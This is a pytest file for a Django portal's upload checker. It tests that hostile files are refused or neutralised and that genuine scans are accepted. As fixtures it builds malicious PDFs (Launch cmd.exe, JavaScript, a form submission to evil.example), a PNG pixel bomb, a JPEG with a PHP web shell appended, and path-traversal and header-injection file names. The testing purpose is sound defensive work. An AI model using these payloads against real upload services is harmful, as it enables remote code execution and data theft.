"""What people hand in: hostile files are refused or made inert, honest scans are taken."""

from __future__ import annotations

import io
import random
import resource
import socketserver
import struct
import threading
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image, ImageDraw
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from portal.operations import uploads
from portal.operations.models import DraftUpload, ServiceRequest
from tests.portal.operations.test_flow import base_of, begin, roa

__all__ = ["roa"]

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# --- Honest files -----------------------------------------------------------------------------------------------
def picture(kind: str, size=(620, 877), mode: str = "RGB", **options) -> bytes:
    image = Image.new(mode, size, 255 if mode in ("L", "1") else None)
    ImageDraw.Draw(image).text((40, 40), "Denuncia di smarrimento", fill=0 if mode in ("L", "1") else None)
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def pdf(pages: int = 1, prepare=None, **options) -> bytes:
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(595, 842)
    if prepare:
        prepare(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def scanned_pdf(seed: int) -> bytes:
    out = io.BytesIO()
    page = Image.new("L", (400 + seed % 50, 560), seed % 255)
    page.save(out, "PDF", save_all=True, append_images=[page] * (seed % 4), resolution=100)
    return out.getvalue()


def honest(count: int):
    for n in range(count):
        kind = n % 5
        if kind == 0:
            yield f"scansione {n}.pdf", scanned_pdf(n)
        elif kind == 1:
            yield f"IMG_{n}.JPG", picture("JPEG", (300 + n, 400), mode=("RGB", "L", "CMYK")[n % 3])
        elif kind == 2:
            yield f"Schermata {n}.png", picture("PNG", (200, 300 + n), mode=("RGB", "RGBA", "P", "1")[n % 4])
        elif kind == 3:
            yield f"denuncia.carabinieri.{n}.pdf", pdf(1 + n % 50)
        else:
            yield f"carta d'identità {n}.jpeg", picture("JPEG", (3000, 2000), quality=60)


# --- Hostile files ----------------------------------------------------------------------------------------------
def _action(name: str, **more):
    def prepare(writer: PdfWriter) -> None:
        action = DictionaryObject({NameObject("/S"): NameObject(name)})
        for key, value in more.items():
            action[NameObject(f"/{key}")] = TextStringObject(value)
        writer.root_object[NameObject("/OpenAction")] = action

    return prepare


def _embedded(writer: PdfWriter) -> None:
    writer.add_attachment("virus.exe", b"MZ" + b"\0" * 50)


def _page_action(writer: PdfWriter) -> None:
    script = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")}
    )
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): script})


def _form(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject({NameObject("/XFA"): ArrayObject()})


def _named_script(writer: PdfWriter) -> None:
    scripts = DictionaryObject({NameObject("/Names"): ArrayObject()})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): scripts})


def encrypted() -> bytes:
    return pdf(1, lambda writer: writer.encrypt("segreta"))


def pixel_bomb() -> bytes:
    """A few kilobytes that would be drawn as 400 million points."""
    width = height = 20_000

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    head = struct.pack("!IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 100_000))
        + chunk(b"IEND", b"")
    )


ACTING = {
    "launch": lambda: pdf(1, _action("/Launch", F="cmd.exe")),
    "javascript": lambda: pdf(1, _action("/JavaScript", JS="app.alert(1)")),
    "submit": lambda: pdf(1, _action("/SubmitForm", F="https://evil.example")),
    "remote": lambda: pdf(1, _action("/GoToR", F="other.pdf")),
    "embedded": lambda: pdf(1, _embedded),
    "page action": lambda: pdf(1, _page_action),
    "xfa": lambda: pdf(1, _form),
    "named script": lambda: pdf(1, _named_script),
    "encrypted": encrypted,
    "too many pages": lambda: pdf(51),
    "no pages": lambda: pdf(0),
}


def hostile(count: int, seed: int = 8):
    dice = random.Random(seed)
    jpeg, png, paper = picture("JPEG"), picture("PNG"), pdf()
    scripted = pdf(1, _action("/JavaScript", JS="x"))
    made = {name: make() for name, make in ACTING.items()}
    fixed = [
        *((f"{name}.pdf", content) for name, content in made.items()),
        ("bomba.png", pixel_bomb()),
        ("eicar.pdf", EICAR),
        ("eicar.jpg", EICAR),
        ("pagina.pdf", b"<html><script>alert(1)</script></html>"),
        ("disegno.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("denuncia.pdf.exe", b"MZ" + paper),
        ("denuncia.exe", paper),
        ("foto.php", jpeg),
        ("foto.jpg", png),
        ("foto.png", paper),
        ("zip.pdf", b"PK\x03\x04" + paper),
        ("doppio.pdf", paper + b"PK\x03\x04" + b"\0" * 40 + b"evil"),
        ("coda.pdf", paper + b"<script>alert(1)</script>"),
        ("testa.pdf", b"MZ\x90\0" + paper),
        ("nascosto.pdf", scripted.replace(b"/JavaScript", b"/Java#53cript")),
        ("grande.pdf", paper[:-6] + b"\0" * (11 << 20) + b"%%EOF\n"),
        ("vuoto.pdf", b""),
        ("troncato.jpg", jpeg[: len(jpeg) // 2]),
        ("troncato.png", png[: len(png) // 2]),
        ("../../etc/passwd", b"root:x:0:0"),
        ("nome\0.pdf.sh", b"#!/bin/sh"),
    ]
    yield from fixed[:count]
    for n in range(count - len(fixed)):  # the dangerous ones with bytes changed here and there
        name, content = fixed[dice.randrange(len(made))]
        content = bytearray(content)
        for _change in range(dice.randrange(1, 6)):
            content[dice.randrange(len(content))] = dice.randrange(256)
        yield f"{n}-{name}", bytes(content)


def verdict(name: str, content: bytes) -> uploads.Checked | None:
    try:
        return uploads.check(name, content)
    except uploads.Refused as refusal:
        assert str(refusal)
        return None


DANGEROUS = (b"/JavaScript", b"/Launch", b"/EmbeddedFile", b"/SubmitForm", b"EICAR", b"<script", b"MZ\x90")


def test_hostile_files_are_refused_or_inert():
    """500 files in the long run of the release; the shorter one here has every kind of them."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    taken = [(name, found) for name, content in hostile(150) if (found := verdict(name, content))]
    assert [name for name, found in taken if any(sign in found.content for sign in DANGEROUS)] == []
    fixed = {name for name, _content in hostile(32)}
    assert [name for name, _found in taken if name in fixed] == []
    assert (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024 < 300


def test_honest_scans_are_taken():
    refused = [name for name, content in honest(60) if verdict(name, content) is None]
    assert refused == []


def test_a_polyglot_image_is_drawn_again():
    content = picture("JPEG") + b"<?php system($_GET['c']); ?>" + EICAR
    taken = uploads.check("foto.jpg", content)
    assert b"<?php" not in taken.content and b"EICAR" not in taken.content
    assert Image.open(io.BytesIO(taken.content)).format == "JPEG"


def test_names_are_made_harmless():
    for name in (
        "../../../etc/passwd.jpg",
        "c:\\boot\\foto.jpg",
        "a\r\nSet-Cookie: x.jpg",
        "x" * 300 + ".jpg",
    ):
        kept = uploads.check(name, picture("JPEG")).name
        assert "/" not in kept and "\\" not in kept and "\n" not in kept and len(kept) <= 90


def test_a_scanner_that_finds_something_or_is_silent_refuses(settings):
    class Daemon(socketserver.StreamRequestHandler):
        def handle(self):
            assert self.rfile.read(10) == b"zINSTREAM\0"
            content = b""
            while size := struct.unpack("!L", self.rfile.read(4))[0]:
                content += self.rfile.read(size)
            self.wfile.write(b"stream: Eicar FOUND\0" if len(content) > 5000 else b"stream: OK\0")

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Daemon) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        daemon = f"127.0.0.1:{server.server_address[1]}"
        settings.UPLOADS = settings.UPLOADS | {"scanner": "portal.operations.scanning.clamd", "clamd": daemon}
        assert verdict("piccolo.pdf", pdf()) is not None
        assert verdict("grande.jpg", picture("JPEG", (3000, 2000))) is None
        server.shutdown()
    assert verdict("piccolo.pdf", pdf()) is None


@pytest.mark.django_db
def test_an_upload_is_kept_privately_shown_at_the_gate_and_goes_with_the_request(roa):
    url = begin(roa, "test-carta")
    file = SimpleUploadedFile("../Denuncia.PDF", pdf())
    assert roa.post(url, {"words": "boh", "report": file}).status_code == 200  # another field is wrong
    assert "Hai già caricato Denuncia.pdf" in roa.get(url).content.decode()
    base = base_of(url)
    assert roa.post(url, {"words": "ciao"}).url == f"{base}conferma/"
    upload = DraftUpload.objects.get()
    assert "Denuncia" not in upload.file.name
    kept = roa.get(f"{base}documento/allegato-{upload.pk}/")
    assert kept["Content-Disposition"].startswith("attachment")
    assert kept["X-Content-Type-Options"] == "nosniff"
    assert roa.post(f"{base}conferma/").status_code == 200
    roa.get(f"{base}documento/riepilogo/")
    assert roa.post(f"{base}conferma/").status_code == 302
    assert ServiceRequest.objects.get().documents.filter(name="Denuncia.pdf").exists()
    assert roa.get(f"/media/{upload.file.name}").status_code == 404


@pytest.mark.django_db
def test_a_missing_or_wrong_upload_is_refused_beside_the_field(roa):
    url = begin(roa, "test-carta")
    assert "errorlist" in roa.post(url, {"words": "ciao"}).content.decode()
    answer = roa.post(url, {"words": "ciao", "report": SimpleUploadedFile("a.pdf", b"MZ")})
    assert "PDF, JPG o PNG" in answer.content.decode()
    assert not DraftUpload.objects.exists()
